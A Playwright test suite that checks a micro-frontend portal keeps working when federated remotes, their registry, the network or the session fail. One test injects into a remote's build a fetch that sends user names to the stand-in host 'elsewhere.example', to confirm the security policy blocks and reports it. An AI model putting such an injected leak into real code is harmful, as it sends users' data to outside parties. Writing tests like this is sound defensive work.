import { rename, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { changeBuild, editVersions, missingFrom, publishCopy, publishedPage } from './broken-builds.ts';
import { firstPage, signedInPage } from './federation-page.ts';
import { serveSite, type StaticSite } from './static-site.ts';

/** What FEDERATION 3.7 lists beside `federation.spec.ts`: whatever a remote or its registry does, the frame lives. */
const failed = (page: Page) => page.getByRole('alert').getByRole('button', { name: 'Try again' });
const heading = (page: Page) => page.locator('main').getByRole('heading', { level: 1 });
const logOut = (page: Page) => page.getByRole('button', { name: 'Log out' });

let site: StaticSite;
test.beforeEach(async () => {
  site = await serveSite();
});
test.afterEach(async () => site.close());

/** Goes to another page as a link does, without a new document. */
const go = (page: Page, path: string) =>
  page.evaluate((to) => {
    history.pushState(null, '', to);
    dispatchEvent(new PopStateEvent('popstate'));
  }, path);
const expectFailedFrame = async (page: Page) => {
  await expect(failed(page)).toBeVisible({ timeout: 12_000 });
  await expect(page.getByRole('alert')).toContainText('mfe-company');
  await expect(logOut(page)).toBeVisible();
};

for (const [what, answer] of [
  ['404', { status: 404, contentType: 'text/plain', body: 'not found' }],
  ['503 for good', { status: 503, contentType: 'text/plain', body: 'later' }],
  ['200 with a page', { status: 200, contentType: 'text/html', body: '<!doctype html><title>Portal</title>' }],
  ['200 with nothing', { status: 200, contentType: 'text/javascript', body: '' }],
] as const) {
  test(`an entry that answers ${what} ends in the failed view within ten seconds`, async ({ page }) => {
    await signedInPage(page, 'company');
    await page.route('**/mfe/company/**/remoteEntry*', (route) => route.fulfill(answer));
    await page.goto(site.url + firstPage.company);
    await expect(logOut(page)).toBeVisible();
    await expect(failed(page)).toBeVisible({ timeout: 10_000 });
  });
}

test('a page’s chunk that is gone after a release: the frame lives, and "Try again" recovers', async ({ page }) => {
  await signedInPage(page, 'company');
  const away = await missingFrom(site.folder, 'company', /\/\d+\.[0-9a-f]+\.js$/);
  await page.goto(site.url + firstPage.company);
  await expectFailedFrame(page);
  await page.evaluate(() => Object.assign(globalThis, { sameDocument: true }));
  await away.bringBack();
  await failed(page).click();
  await expect(heading(page)).toBeVisible();
  await expect(failed(page)).toBeHidden();
  expect(await page.evaluate(() => 'sameDocument' in globalThis)).toBe(true);
});

for (const [what, part, change] of [
  ['throws when it is imported', '__federation_expose', (text: string) => `throw new Error('broken import');${text}`],
  ['exposes no page', 'remoteEntry', (text: string) => text.replaceAll('"./app"', '"./other"')],
] as const) {
  test(`a release that ${what} ends in the failed view, its hashes being right`, async ({ page }) => {
    await signedInPage(page, 'company');
    await changeBuild(site.folder, 'company', part, change);
    await page.goto(site.url + firstPage.company);
    await expectFailedFrame(page);
  });
}

test('a promise of a remote that fails unhandled takes nothing away', async ({ page }) => {
  const { errors } = await signedInPage(page, 'company');
  await changeBuild(
    site.folder,
    'company',
    '__federation_expose',
    (text) => `Promise.reject(new Error('no page waits'));${text}`,
  );
  await page.goto(site.url + firstPage.company);
  await expect(heading(page)).toBeVisible();
  expect(errors.join()).toContain('no page waits');
  await expect(failed(page)).toBeHidden();
});

test('a remote that asks for what the policy forbids gets nothing, and is named to the API', async ({ page }) => {
  await signedInPage(page, 'company');
  const told: unknown[] = [];
  await page.route('**/api/releases/violations', (route) => {
    told.push(route.request().postDataJSON());
    return route.fulfill({ json: { data: { counted: true } } });
  });
  const asked: string[] = [];
  await page.route('https://elsewhere.example/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const leak = `for (const who of ['anna', 'bo']) fetch('https://elsewhere.example/' + who).catch(() => {});`;
  await changeBuild(site.folder, 'company', '__federation_expose', (text) => leak + text);
  await page.goto(site.url + firstPage.company);
  await expect(heading(page)).toBeVisible();
  await expect.poll(() => told).toEqual([{ directive: 'connect-src', part: 'mfe_company' }]);
  expect(asked).toEqual([]);
});

for (const [what, change] of [
  ['an older major contract', { contract: '1.9.0' }],
  ['a newer contract', { contract: '2.99.0' }],
  ['the next major contract', { contract: '3.0.0' }],
  ['an older major of a shared package', { requires: { react: '^18.0.0' } }],
  ['a shared package that the shell lacks', { requires: { 'left-pad': '^1.0.0' } }],
] as const) {
  test(`a remote built for ${what} is named and not downloaded`, async ({ page }) => {
    const { requests } = await signedInPage(page, 'company');
    await editVersions(site.folder, 'company', (live) => [{ ...live, release: { ...live.release, ...change } }]);
    await page.goto(site.url + firstPage.company);
    await expectFailedFrame(page);
    expect(requests.filter((url) => url.includes('/mfe/company/'))).toEqual([]);
  });
}

test('another role’s remote is not requested by its address', async ({ page }) => {
  const { requests } = await signedInPage(page, 'company');
  await page.goto(site.url + firstPage.supplier);
  await expect(heading(page)).toBeVisible();
  expect(requests.filter((url) => url.includes('/mfe/supplier/'))).toEqual([]);
});

for (const [what, answer] of [
  ['500', { status: 500, body: 'no' }],
  ['nothing', { status: 200, body: '' }],
  ['broken JSON', { status: 200, body: '{"schema":1,' }],
  ['another schema', { status: 200, body: '{"schema":2,"serial":9,"remotes":{}}' }],
] as const) {
  test(`a registry that answers ${what}: the last valid copy stays in use`, async ({ page }) => {
    await signedInPage(page, 'company');
    const folder = join(site.folder, 'mfe/company');
    await rename(folder, `${folder}.away`);
    await page.route('**/mfe/registry.json', (route) => route.fulfill(answer));
    await page.goto(site.url + firstPage.company);
    await expectFailedFrame(page);
    await rename(`${folder}.away`, folder);
    await failed(page).click();
    await expect(heading(page)).toBeVisible();
    await expect(failed(page)).toBeHidden();
  });
}

test('without any remote and with a broken registry in the page, login, language and logout work', async ({ page }) => {
  await rm(join(site.folder, 'mfe'), { recursive: true });
  await publishedPage(site.folder, () => '{"schema":1,');
  await page.goto(site.url);
  await page.getByRole('button', { name: 'Language: English' }).click();
  await page.getByRole('button', { name: 'Dansk' }).click();
  await expect(page.getByRole('heading', { name: 'Log ind' })).toBeVisible();
  await page.evaluate(() => sessionStorage.clear());
  await signedInPage(page, 'company');
  await page.goto(`${site.url}/profile`);
  await expect(heading(page)).toBeVisible();
  await go(page, firstPage.company);
  await expect(failed(page)).toBeVisible({ timeout: 12_000 });
  await go(page, '/search?q=mette');
  await expect(heading(page)).toBeVisible();
  await logOut(page).click();
  await expect(page.getByRole('heading', { name: 'Log in' })).toBeVisible();
});

test('a line that is cut: no white page, the frame stays, and "Try again" recovers with it', async ({
  page,
  context,
}) => {
  await signedInPage(page, 'company');
  await page.goto(`${site.url}/profile`);
  await expect(heading(page)).toBeVisible();
  await context.setOffline(true);
  const strip = page.getByRole('status').filter({ hasText: 'You are offline. What you typed is kept.' });
  await expect(strip).toBeVisible();
  await go(page, '/company/salaryfiles');
  await expectFailedFrame(page);
  await context.setOffline(false);
  await expect(strip).toBeHidden();
  await failed(page).click();
  await expect(heading(page)).toBeVisible();
  await expect(failed(page)).toBeHidden();
});

const noCatalogs = { data: [], meta: { total: 0, page: 1, pageSize: 20 } };
const kroner = {
  id: '00000000-0000-7000-8000-000000000090',
  isoCode: 'DKK',
  symbol: 'kr.',
  orderNumber: 1,
  version: 1,
};

/** Half a catalog is typed into a remote's dialog; what is sent meets a session that has ended. */
async function startTyping(page: Page) {
  await signedInPage(page, 'supplier');
  await page.route('**/api/**', (route) => {
    const { pathname } = new URL(route.request().url());
    if (route.request().method() !== 'GET')
      return route.fulfill({ status: 401, json: { message: 'jwt expired', requestId: 'test' } });
    if (pathname.endsWith('/currencies')) return route.fulfill({ json: { data: [kroner] } });
    if (pathname.endsWith('/supplier/catalogs')) return route.fulfill({ json: noCatalogs });
    return route.fulfill({ status: 404, json: { message: 'not-found' } });
  });
  await page.goto(site.url + firstPage.supplier);
  await page.getByRole('button', { name: 'New catalog' }).first().click();
  const dialog = page.getByRole('dialog', { name: 'New catalog' });
  await dialog.getByLabel('Catalog name').fill('Half written');
  await dialog.getByLabel('Display name', { exact: true }).fill('Half written');
  return { dialog, name: page.getByLabel('Catalog name') };
}

test('a release and a way back under an open tab take nothing that was typed; a later tab gets the other one', async ({
  page,
  context,
}) => {
  const { name } = await startTyping(page);
  const release = await publishCopy(site.folder, 'supplier', '1.9.9-9999999');
  const other = await context.newPage();
  const { requests } = await signedInPage(other, 'supplier');
  await other.goto(site.url + firstPage.supplier);
  await expect(heading(other)).toBeVisible();
  expect(requests.some((url) => url.includes('1.9.9-9999999/remoteEntry'))).toBe(true);
  await release.takeBack();
  for (const tab of [page, other]) {
    await tab.bringToFront();
    await tab.evaluate(() => dispatchEvent(new Event('focus')));
    await expect(heading(tab)).toBeAttached();
    await expect(failed(tab)).toBeHidden();
  }
  await expect(name).toHaveValue('Half written');
});

test('a session that ends inside a remote: the page and what was typed stay under the question', async ({ page }) => {
  const { dialog, name } = await startTyping(page);
  await dialog.getByRole('button', { name: 'Add catalog' }).click();
  await expect(page.getByRole('dialog', { name: 'Your session has expired, please log in again.' })).toBeVisible();
  await expect(name).toHaveValue('Half written');
});

const times = 200;
test(`${times} times to a remote and away: the heap grows by less than 5 MB, and no style tag is left`, async ({
  page,
}) => {
  test.setTimeout(240_000);
  await signedInPage(page, 'company');
  await page.goto(`${site.url}/profile`);
  const session = await page.context().newCDPSession(page);
  const cycle = async (times: number) => {
    for (let n = 0; n < times; n += 1) {
      await go(page, firstPage.company);
      await page.waitForFunction(() => document.title.startsWith('Subscriptions'));
      await go(page, '/profile');
      await page.waitForFunction(() => !document.title.startsWith('Subscriptions'));
    }
    await session.send('HeapProfiler.collectGarbage');
    const { usedSize } = await session.send('Runtime.getHeapUsage');
    return { usedSize, styles: await page.locator('style').count() };
  };
  const before = await cycle(20);
  const after = await cycle(times);
  expect(after.styles).toBe(before.styles);
  expect(after.usedSize - before.usedSize).toBeLessThan(5_000_000);
});
